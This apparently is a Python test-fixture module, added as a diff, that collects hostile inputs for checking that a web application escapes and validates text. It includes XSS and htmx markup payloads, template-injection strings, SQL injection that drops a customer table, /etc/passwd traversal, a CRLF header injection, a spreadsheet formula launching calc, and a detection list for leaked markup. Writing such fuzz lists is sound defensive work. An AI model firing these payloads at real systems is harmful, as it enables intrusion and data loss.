@@ -1,0 +1,141 @@
+"""Texts that break careless programs. Written for this product; extend it with what was met in the wild."""
+
+from __future__ import annotations
+
+MARK = "zq7"
+"""Stands in every text that tries to become markup, so that it is found in a page."""
+
+TAGS = [
+    "<script>zq7()</script>",
+    "<SCRIPT SRC=//zq7.example></SCRIPT>",
+    "</script><script>zq7()</script>",
+    "</textarea><zq7>",
+    "</title><zq7>",
+    "</option></select><zq7>",
+    "<zq7 onclick=a()>",
+    "<img src=zq7 onerror=a()>",
+    "<svg/onload=zq7()>",
+    "<svg><a xlink:href='javascript:zq7()'>",
+    "<math><zq7 href=javascript:a()>",
+    "<iframe srcdoc='<zq7>'></iframe>",
+    "<form action=//zq7.example><button>",
+    "<base href=//zq7.example>",
+    "<meta http-equiv=refresh content='0;url=//zq7.example'>",
+    "<link rel=stylesheet href=//zq7.example>",
+    "<style>@import '//zq7.example'</style>",
+    "<zq7 style=position:fixed>",
+    "<a href='javascript:zq7()'>Rechnung</a>",
+    "<zq7 hx-get=/customers/ hx-trigger=load>",
+    "<zq7 hx-on:click='a()'>",
+    "<zq7 hx-vals='js:{a:b()}'>",
+    "<zq7 data-hx-post=/people/logout/ data-hx-trigger=load>",
+    "<template><zq7></template>",
+    "<!--<zq7>-->",
+    "<![CDATA[<zq7>]]>",
+    "<?xml version='1.0'?><zq7/>",
+    "\uff1czq7\uff1e<zq7>",
+    "<zq7",
+    "<zq7\t>",
+    "<\x0bzq7><zq7>",
+]
+ATTRIBUTES = [
+    '" zq7="1',
+    "' zq7='1",
+    '"><zq7>',
+    "'><zq7>",
+    '" autofocus onfocus="zq7()',
+    "` zq7=`1",
+    "javascript:zq7()",
+    "data:text/html,<zq7>",
+]
+TEMPLATES = [
+    "{{ zq7 }}",
+    "{{ 7|add:7 }}{{ zq7.password }}",
+    "{% load zq7 %}",
+    "{% include 'zq7' %}",
+    "{# zq7 #}",
+    "${zq7}",
+    "#{zq7}",
+    "<%= zq7 %>",
+    "%(zq7)s %s %d %",
+    "{zq7} {0} {} {0.__class__}",
+]
+CHARACTERS = [
+    "\x00",
+    "a\x00b",
+    "\x01\x02\x1b[31m\x7f",
+    "\ud800",
+    "a\udfffb",
+    "\ufffe\uffff",
+    "\u202eabc\u202c",
+    "\u2066abc\u2069",
+    "\u200b\u200c\u200d\ufeff",
+    "e" + "\u0301" * 500,
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
+    "\u0130\u0131\ufb01\u1e9e\u01c5",
+    "\r\n\r\nX-Injected: 1",
+    "\u2028\u2029\x85",
+    "   ",
+    "\t\n\r",
+]
+NUMBERS = [
+    "-1",
+    "0",
+    "1e309",
+    "NaN",
+    "Infinity",
+    "-Infinity",
+    "9" * 19,
+    "9" * 20,
+    str(2**31),
+    str(2**63),
+    str(2**64),
+    "9" * 5000,
+    "0x10",
+    "1_000",
+    "\u0663\u0664",
+    "\u00b2",
+    "1,5",
+    "1.234,56",
+    "--1",
+    "True",
+    "null",
+    "[]",
+    "{}",
+    "0001-01-01",
+    "9999-12-31",
+    "31.02.2026",
+    "1.1.0000",
+    "99999-01-01",
+    "+999999999",
+]
+SHELLS = [
+    "'; DROP TABLE customers_customer; --",
+    "\\' OR 1=1 --",
+    "%' OR '%'='",
+    "_%\\",
+    "../../../../etc/passwd",
+    "file:///etc/passwd",
+    "//zq7.example/",
+    "https://zq7.example/",
+    "\\\\zq7.example\\x",
+    "=cmd|' /C calc'!A1",
+    "@SUM(1)",
+    "|| true",
+]
+LONG = ["x" * 1_000_000, "\u00e4 " * 200_000, "<zq7>" * 100_000, "\n" * 300_000]
+
+TEXTS = [*TAGS, *ATTRIBUTES, *TEMPLATES, *CHARACTERS, *NUMBERS, *SHELLS]
+ALL = [*TEXTS, *LONG]
+
+LIVE_MARKUP = (
+    "<zq7",
+    "<script>zq7",
+    "<script src=//zq7",
+    "<img src=zq7",
+    '" zq7=',
+    "' zq7=",
+    "<svg/onload",
+    "<base",
+)
+"""What may occur in no page: a text that became markup. Compared in lower case."""
